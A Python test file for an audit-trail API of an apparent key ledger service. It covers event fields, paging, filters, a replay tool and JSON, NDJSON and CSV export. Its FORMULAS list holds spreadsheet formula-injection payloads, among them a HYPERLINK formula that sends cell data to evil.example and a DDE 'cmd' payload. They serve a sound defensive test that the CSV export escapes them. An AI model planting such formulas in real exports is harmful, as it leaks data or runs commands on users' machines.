"""The audit trail: who did what, when, from where and why; as JSON, NDJSON and CSV, and by replay."""

import csv
import datetime
import io
import json
import unittest
import urllib.parse

from node import ADA, SharedNodeTest, run

DANGEROUS = "=+-@\t\r\n"
FORMULAS = ["=1+1", "+1", "-1", "@SUM(A1)", '=HYPERLINK("http://evil.example?"&A1,"x")', "=cmd|'/C calc'!A0", '"=1',
            ",=1",
            "'=1"]


class Trail(SharedNodeTest):
    def get(self, path="/events", accept="application/json", status=200, **parameters):
        query = urllib.parse.urlencode({name.rstrip("_"): value for name, value in parameters.items()},
                                       quote_via=urllib.parse.quote)
        answer = self.node.get(f"/v1/accounts/{self.account}{path}?{query}", token=self.token,
                               headers={"Accept": accept})
        self.assertEqual(answer.status, status, answer)
        return answer

    def table(self, path="/events", **parameters):
        """The CSV's rows as dictionaries, by Python's own reader."""
        answer = self.get(path, "text/csv", **parameters)
        rows = list(csv.DictReader(io.StringIO(answer.body.decode(), newline=""), strict=True))
        self.assertFalse([row for row in rows if None in row or None in row.values()])
        return rows

    def story(self):
        key = self.create(name="a", description="b")
        path = f"{self.keys}/{key['id']}"
        self.node.patch(path, {"name": "c", "enabled": False, "reason": "lost"}, token=self.token)
        self.node.post(f"{path}/reveal", token=self.token)
        self.create(name="another")
        self.node.delete(f"{path}?reason=done", token=self.token)
        return key


class Contents(Trail):
    def test_an_event_says_who_what_when_from_where_and_why(self):
        trace = "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"
        token = self.node.token(self.account, subject="user-7")
        key = self.create()
        before = datetime.datetime.now(datetime.timezone.utc)
        self.node.patch(f"{self.keys}/{key['id']}", {"enabled": False, "reason": "laptop lost"}, token=token, headers={
            "User-Agent": "tests/1 (\u00e4)".encode(), "X-Request-Id": "req-1", "Traceparent": trace})
        after = datetime.datetime.now(datetime.timezone.utc)
        event = self.events()[-1]
        self.assertEqual((event["type"], event["subject"], event["account"], event["keyversion"], event["traceparent"]),
                         ("keyledger.KeyDisabled", key["id"], self.account, 2, trace))
        self.assertEqual(event["data"], {"actor": {"subject": "user-7", "username": ADA, "address": "127.0.0.1",
                                                   "user_agent": "tests/1 (ä)", "request_id": "req-1"},
                                         "reason": "laptop lost"})
        self.assertLessEqual(before, datetime.datetime.fromisoformat(event["time"]))
        self.assertLessEqual(datetime.datetime.fromisoformat(event["time"]), after)

    def test_a_user_agent_that_is_no_text_is_made_one(self):
        for given, kept in ((b"\xff\xfe", "\ufffd\ufffd"), (b"a" * 300, "a" * 256), (b"tab\tbed", "tab\ufffdbed"),
                            ("\u00e4".encode() * 200, "\u00e4" * 128)):
            self.node.post(self.keys, {"name": "a"}, token=self.token, headers={"User-Agent": given})
            self.assertEqual(self.events()[-1]["data"]["actor"]["user_agent"], kept)

    def test_the_trail_of_a_key_outlives_it_and_holds_nothing_else(self):
        key = self.story()
        types = ["KeyCreated", "KeyRenamed", "KeyDisabled", "KeyValueRevealed", "KeyDeleted"]
        for order, wanted in (("asc", types), ("desc", types[::-1])):
            events = self.get(f"/keys/{key['id']}/events", order=order).json["events"]
            self.assertEqual([event["type"] for event in events], [f"keyledger.{name}" for name in wanted])
            self.assertEqual({event["subject"] for event in events}, {key["id"]})
        self.assertEqual(len(self.events()), 7)  # With AccountRegistered and the other key's.

    def test_a_trail_never_shows_another_accounts_events(self):
        self.story()
        other = f"{self.account}-b"
        self.node.create(self.node.token(other), other)
        self.assertEqual({event["account"] for event in self.events()}, {self.account})
        self.assertEqual(self.node.get("/v1/accounts/never-heard-of/events",
                                       token=self.node.token("never-heard-of")).json,
                         {"events": [], "next_after": None})


class Questions(Trail):
    @staticmethod
    def read_page(answer):
        """The positions on a page in any form, and the `after` of the next one; None if it was the last."""
        lines = answer.body.decode().splitlines()
        if answer.json is not None:
            return [event["position"] for event in answer.json["events"]], answer.json["next_after"]
        if answer.headers["content-type"] == "application/x-ndjson":
            found = [json.loads(line)["position"] for line in lines]
        else:
            found = [int(row["position"]) for row in csv.DictReader(lines)]
        return found, answer.headers.get("keyledger-next-after")

    def test_after_limit_and_order_walk_through_all_of_it(self):
        self.story()
        everything = self.events()
        for order in ("asc", "desc"):
            for limit in (1, 2, 3, 7, 8):
                for accept in ("application/json", "application/x-ndjson", "text/csv"):
                    positions, after = [], 0
                    while after is not None:
                        found, after = self.read_page(self.get(accept=accept, order=order, limit=limit, after=after))
                        self.assertLessEqual(len(found), limit)
                        positions += found
                    wanted = [event["position"] for event in everything]
                    self.assertEqual(positions, wanted if order == "asc" else wanted[::-1], (order, limit, accept))

    def test_a_type_is_all_that_is_shown_of_it(self):
        self.story()
        for name, count in (("KeyCreated", 2), ("KeyRenamed", 1), ("AccountRegistered", 1), ("KeyEnabled", 0),
                            ("Nope", 0)):
            found = self.get(type=name).json["events"]
            self.assertEqual([event["type"] for event in found], [f"keyledger.{name}"] * count)
        self.assertEqual(len(self.get(type="KeyCreated", limit=1).json["events"]), 1)

    def test_from_is_inclusive_and_to_is_not(self):
        self.story()
        events = self.events()
        for i, event in enumerate(events):
            same = [other["position"] for other in events if other["time"] == event["time"]]
            since = [other["position"] for other in self.get(from_=event["time"]).json["events"]]
            until = [other["position"] for other in self.get(to=event["time"]).json["events"]]
            self.assertEqual((since[0], len(since) + len(until)), (same[0], len(events)), i)
        first, last = events[0]["time"], events[-1]["time"]
        between = self.get(from_=first, to=last, order="desc", type="KeyCreated").json["events"]
        self.assertEqual(len(between), 2)
        shifted = datetime.datetime.fromisoformat(last).astimezone(datetime.timezone(datetime.timedelta(hours=5)))
        self.assertEqual(self.get(from_=shifted.isoformat()).json["events"], events[-1:])

    def test_a_parameter_that_can_not_be_read_is_400(self):
        for parameters in ({"after": "-1"}, {"after": "x"}, {"after": ""}, {"limit": 0}, {"limit": 1001},
                           {"from": "now"},
                           {"to": "2026-01-01"}, {"order": "newest"}, {"types": "KeyCreated"}, {"cursor": "x"}):
            self.get(status=400, **parameters)
        self.get(accept="application/xml", status=406)


class Forms(Trail):
    def test_ndjson_and_replay_have_the_same_events_byte_for_byte(self):
        key = self.story()
        lines = self.get(accept="application/x-ndjson").body.decode().splitlines()
        self.assertEqual([json.loads(line) for line in lines], self.events())
        replay = run("replay", "--data-dir", self.node.data_dir, "--account", self.account)[0].splitlines()
        self.assertEqual(replay, lines)
        of_key = run("replay", "--data-dir", self.node.data_dir, "--key", key["id"])[0].splitlines()
        self.assertEqual(of_key, [line for line in lines if json.loads(line).get("subject") == key["id"]])
        self.assertEqual(len(of_key), 5)

    def test_replay_begins_after_a_position_and_ends_before_a_time(self):
        self.story()
        events = self.events()
        replay = lambda *flags: [json.loads(line) for line in run(  # noqa: E731
            "replay", "--data-dir", self.node.data_dir, "--account", self.account, *flags)[0].splitlines()]
        self.assertEqual(replay("--after", events[2]["position"]), events[3:])
        self.assertEqual(replay("--until", events[-1]["time"]), events[:-1])
        self.assertEqual(replay("--after", events[-1]["position"]), [])
        everything = [json.loads(line) for line in run("replay", "--data-dir", self.node.data_dir)[0].splitlines()]
        self.assertEqual([event["type"] for event in everything[:2]], ["keyledger.LedgerCreated",
                                                                       "keyledger.WriterElected"])

    def test_the_trail_and_replay_by_actor_type_and_time(self):
        self.story()
        other = self.node.token(self.account, subject="user-7")
        key = self.create()
        for name in ("x", "y", "z"):
            self.node.patch(f"{self.keys}/{key['id']}", {"name": name}, token=other)
            self.create()
        events = self.events()
        theirs = [event for event in events if event["data"]["actor"]["subject"] == "user-7"]
        self.assertEqual(len(theirs), 3)
        self.assertEqual(self.events(actor="user-7"), theirs)
        self.assertEqual(self.events(actor="nobody"), [])
        self.assertEqual(self.events(actor="user-7", type="KeyCreated"), [])
        first = self.get(actor="user-7", limit=2).json
        self.assertEqual((first["events"], first["next_after"]), (theirs[:2], theirs[1]["position"]))
        rest = self.get(actor="user-7", limit=2, after=first["next_after"]).json
        self.assertEqual((rest["events"], rest["next_after"]), (theirs[2:], None))
        self.assertEqual(self.get(actor="user-7", limit=3, order="desc").json["next_after"], None)

        def replay(*flags):
            return run("replay", "--data-dir", self.node.data_dir, "--account", self.account, *flags)[0]

        def lines(*flags):
            return [json.loads(line) for line in replay(*flags).splitlines()]

        self.assertEqual(lines("--actor", "user-7"), theirs)
        for form in ("KeyCreated", "keyledger.KeyCreated"):
            self.assertEqual(lines("--type", form), [e for e in events if e["type"] == "keyledger.KeyCreated"])
        self.assertEqual(lines("--from", theirs[0]["time"], "--until", theirs[2]["time"]),
                         [event for event in events if theirs[0]["time"] <= event["time"] < theirs[2]["time"]])
        self.assertEqual(json.loads(replay("--format", "json", "--actor", "user-7")), {"events": theirs})
        self.assertEqual(json.loads(replay("--format", "json", "--actor", "nobody")), {"events": []})
        table = self.get(accept="text/csv", limit=1000).body.decode()
        self.assertEqual(replay("--format", "csv"), table.replace("\r\n", "\n"))  # Python reads any end of line.
        _, said = run("replay", "--data-dir", self.node.data_dir, "--from", "yesterday", expect=2)
        self.assertIn("--from", said)

    def test_csv_has_the_events_in_columns(self):
        key = self.story()
        rows = self.table(f"/keys/{key['id']}/events")
        events = self.get(f"/keys/{key['id']}/events").json["events"]
        for row, event in zip(rows, events, strict=True):
            actor = event["data"]["actor"]
            self.assertEqual(
                (row["position"], row["time"], row["type"], row["account"], row["key_id"], row["key_version"]),
                (str(event["position"]), event["time"], event["type"], self.account, key["id"],
                 str(event["keyversion"])))
            self.assertEqual((row["actor_subject"], row["actor_username"], row["actor_address"], row["request_id"]),
                             (actor["subject"], ADA, "127.0.0.1", actor["request_id"]))
        self.assertEqual([(row["name"], row["description"], row["enabled"], row["reason"]) for row in rows],
                         [("a", "b", "true", ""), ("c", "", "", "lost"), ("", "", "", "lost"), ("",) * 4,
                          ("", "", "", "done")])
        disposition = self.get(accept="text/csv").headers["content-disposition"]
        self.assertEqual(disposition, 'attachment; filename="keyledger-events.csv"')

    def test_no_text_that_a_caller_chose_is_a_formula_in_a_spreadsheet(self):
        multiline = ["=1\n2", "\t=1", "\n=1"]
        for text in FORMULAS:
            token = self.node.token(self.account, username=text.replace(":", ""), subject=text)
            headers = {"User-Agent": text, "X-Request-Id": "-1"}
            key = self.node.post(self.keys, {"name": text, "description": text}, token=token, headers=headers).json
            self.node.patch(f"{self.keys}/{key['id']}", {"name": "x", "reason": text}, token=token, headers=headers)
            self.node.put(f"/v1/accounts/{self.account}", {"username": text.replace(":", "")}, token=token,
                          headers=headers)
        for text in multiline:
            self.create(name="a", description=text)
        rows = self.table(limit=1000)
        for row in rows:
            for column, cell in row.items():
                self.assertFalse(cell and cell[0] in DANGEROUS, (column, cell))
        # And nothing else was done to them.
        undone = lambda cell: cell[1:] if cell[:1] == "'" and cell[1:2] in DANGEROUS else cell  # noqa: E731
        created = [row for row in rows if row["type"] == "keyledger.KeyCreated"]
        self.assertEqual([undone(row["name"]) for row in created if row["name"] != "a"][:8], FORMULAS[:8])
        self.assertEqual([undone(row["description"]) for row in created][-3:], multiline)
        for column in ("actor_subject", "actor_username", "actor_user_agent", "request_id", "reason", "name",
                       "username"):
            self.assertTrue(any(row[column].startswith("'") for row in rows), column)

    def test_quotes_commas_and_line_ends_stay_in_their_cell(self):
        texts = ['a "quoted" text', "a,b;c", "line\nfeed", '","', '"', "ü\U0001f511"]
        for text in texts:
            self.create(description=text)
        self.assertEqual([row["description"] for row in self.table(type="KeyCreated")], texts)


if __name__ == "__main__":
    unittest.main()
